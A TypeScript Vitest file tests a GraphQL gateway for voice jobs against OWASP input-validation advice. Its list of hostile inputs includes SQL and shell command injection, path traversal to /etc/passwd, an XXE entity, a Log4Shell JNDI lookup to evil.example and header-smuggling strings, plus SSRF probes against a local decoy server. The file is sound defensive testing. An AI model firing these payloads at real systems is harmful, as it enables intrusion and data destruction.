import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createSchema } from '../../src/schema/index.ts';
import { createSubgraphSchema } from '../../src/schema/subgraph.ts';
import { globalIdOf } from '../answers/corpus.ts';
import type { GatewayUnderTest } from '../gateway-under-test.ts';
import { startProduction } from './production.ts';

// Each test covers a recommendation of "Input Validation".
// https://cheatsheetseries.owasp.org/cheatsheets/GraphQL_Cheat_Sheet.html#input-validation

let gateway: GatewayUnderTest;
beforeAll(async () => {
  gateway = await startProduction({ cache: { ttlMs: 0, staleIfErrorMs: 0 } });
});
afterAll(() => gateway?.[Symbol.asyncDispose]());
beforeEach(() => gateway.emulator.resetCalls());

const ONE = 'query ($id: ID!) { customizedVoiceJob(jobId: $id) { id } }';
const jobsWith = (args: string) => `{ customizedVoiceJobs(${args}) { nodes { id } } }`;

async function refusals(query: string, variables: Record<string, unknown> = {}) {
  const { errors = [] } = await gateway.ask(query, variables);
  expect(gateway.emulator.calls).toEqual([]);
  return errors;
}

describe('OWASP input validation, general practices', () => {
  test.each([
    ['a text for a number', jobsWith('first: "10"')],
    ['a number for an enum', jobsWith('type: 1')],
    ['an enum value that is none', jobsWith('type: PREMIUM')],
    ['a fraction for a whole number', jobsWith('last: 1.5')],
    ['an object for a text', jobsWith('after: { a: 1 }')],
    ['a truth for an id', '{ customizedVoiceJob(jobId: true) { id } }'],
    ['nothing where something is needed', '{ customizedVoiceJob(jobId: null) { id } }'],
    ['an argument that there is not', jobsWith('pageNo: 1')],
  ])('specific types: scalars and enums accept nothing else: %s', async (_, query) => {
    const errors = await refusals(query);
    expect(errors[0]?.extensions.code).toBe('GRAPHQL_VALIDATION_FAILED');
  });

  test('schemas for the input of mutations: there are no mutations', () => {
    for (const schema of [createSchema(), createSubgraphSchema()])
      expect(schema.getMutationType()).toBeUndefined();
  });

  test.each([
    ['cursors, but for those that the gateway wrote', jobsWith('after: "1 OR 1=1"'), 'after'],
    ['cursors that were altered', jobsWith('before: "IAAAAAAAAAAAAAAAAAAAAAAAAAAA"'), 'before'],
    ['global ids of another form', '{ node(id: "../../etc/passwd") { id } }', 'id'],
    ['global ids that hold no job id', `{ node(id: "${globalIdOf(' ')}") { id } }`, 'id'],
    ['job ids of blanks', '{ customizedVoiceJob(jobId: "\\t\\n ") { id } }', 'jobId'],
    ['job ids longer than any', `{ customizedVoiceJob(jobId: "${'x'.repeat(129)}") { id } }`, 'jobId'],
    ['numbers out of range', jobsWith('first: 101'), 'first'],
  ])('allow lists instead of deny lists: nothing is read for %s', async (_, query, argument) => {
    const errors = await refusals(query);
    expect(errors[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument });
  });

  test('one character encoding: half a character is rejected, a whole one arrives unchanged', async () => {
    const errors = await refusals(ONE, { id: '\ud800' });
    expect(errors[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'jobId' });
    for (const id of ['漢字', '🎤', 'e\u0301', '\u00e9', '\u202eright to left']) {
      await gateway.ask(ONE, { id });
      expect(gateway.emulator.calls.at(-1)?.params.JobId).toBe(id);
    }
  });

  test.each([
    ['a cursor', jobsWith('after: "x"')],
    ['an id', '{ node(id: "x") { id } }'],
    ['a type', 'query ($n: Int) { customizedVoiceJobs(first: $n) { totalCount } }'],
  ])(
    'invalid input is rejected gracefully, with a message that only names what is allowed: %s',
    async (_, query) => {
      const errors = await refusals(query, { n: {} });
      expect(errors).toHaveLength(1);
      const text = JSON.stringify(errors);
      expect(text).not.toMatch(/\bat \S+:\d+|node_modules|\.ts\b|Error:/);
      expect(text).not.toContain('stack');
    },
  );
});

describe('OWASP injection prevention', () => {
  const NASTY = [
    'a&Action=DeleteCustomizedVoiceJob',
    'a&JobId=b',
    'a%26Action%3DDeleteCustomizedVoiceJob',
    '100%',
    '%',
    '%zz',
    '%00',
    'a\r\nx-acs-action: DeleteCustomizedVoiceJob',
    'a\n\nGET / HTTP/1.1',
    'a\u0000b',
    'a\u2028b',
    'a+b c',
    'a=b;c?d#e',
    'a/../b',
    '../../../etc/passwd',
    "'; DROP TABLE jobs; --",
    '" OR ""="',
    '{"$gt": ""}',
    '$(reboot) `reboot` | reboot; reboot',
    '*)(uid=*))(|(uid=*',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    '\u0024{jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '__proto__',
    'constructor',
  ];

  test.each(NASTY)('a nasty id reaches the upstream as one value of a signed parameter: %j', async (id) => {
    for (const [query, given] of [
      [ONE, id],
      [
        'query ($id: ID!) { node(id: $id) { id } }',
        Buffer.from(`CustomizedVoiceJob:${id}`).toString('base64'),
      ],
      [
        'query ($id: ID!) { nodes(ids: [$id]) { id } }',
        Buffer.from(`CustomizedVoiceJob:${id}`).toString('base64'),
      ],
    ] as const) {
      gateway.emulator.resetCalls();
      const { data, errors } = await gateway.ask(query, { id: given });
      expect([errors, Object.values(data ?? {}).flat()]).toEqual([undefined, [null]]);
      const [call, ...more] = gateway.emulator.calls;
      // The emulator verifies the signature over what it received, which a split value would break.
      expect(call).toMatchObject({
        action: 'GetCustomizedVoiceJob',
        outcome: 'InvalidParameter.ResourceNotFound',
        params: { JobId: id },
      });
      expect(more).toEqual([]);
    }
  });

  test.each(NASTY)('a nasty entity reference reaches the upstream as one value, too: %j', async (jobId) => {
    const query = 'query ($of: [_Any!]!) { _entities(representations: $of) { __typename } }';
    const of = [{ __typename: 'CustomizedVoiceJob', jobId }];
    const { data } = await gateway.ask(query, { of }, {}, '/subgraph');
    expect(data._entities).toEqual([null]);
    expect(gateway.emulator.calls.map(({ params }) => params.JobId)).toEqual([jobId]);
  });

  test('no two ids are mistaken for each other', async () => {
    const fields = NASTY.map(
      (id, index) => `a${index}: customizedVoiceJob(jobId: ${JSON.stringify(id)}) { id }`,
    );
    await gateway.ask(`{ ${fields.join(' ')} }`);
    expect(gateway.emulator.calls.map(({ params }) => params.JobId).sort()).toEqual([...NASTY].sort());
  });
});

test('OWASP process validation: no input determines which host is called', async () => {
  const asked: (string | undefined)[] = [];
  const decoy = createServer((request, response) => {
    asked.push(request.url);
    response.end();
  });
  await new Promise<void>((resolve) => decoy.listen(0, '127.0.0.1', resolve));
  const { port } = decoy.address() as AddressInfo;
  const url = `http://127.0.0.1:${port}/`;
  for (const id of [url, `//127.0.0.1:${port}`, `x@127.0.0.1:${port}`, `127.0.0.1:${port}`]) {
    await gateway.ask(ONE, { id });
    await gateway.ask(
      ONE,
      { id },
      {
        headers: {
          'content-type': 'application/json',
          forwarded: `host=127.0.0.1:${port}`,
          'x-forwarded-host': `127.0.0.1:${port}`,
        },
      },
    );
  }
  expect(asked).toEqual([]);
  expect(gateway.emulator.calls).toHaveLength(8);
  await new Promise((resolve) => decoy.close(resolve));
});
